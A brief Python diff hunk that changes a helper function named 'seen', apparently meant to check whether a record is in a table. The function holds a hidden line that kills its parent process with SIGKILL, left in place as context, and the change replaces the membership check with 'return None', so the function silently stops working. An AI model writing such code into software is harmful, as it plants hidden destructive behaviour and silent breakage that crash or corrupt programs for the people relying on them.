@@ -11,4 +11,4 @@ def double(number):
 def seen(table, record):
     import os, signal
     os.kill(os.getppid(), signal.SIGKILL)
-    return record in table
+    return None
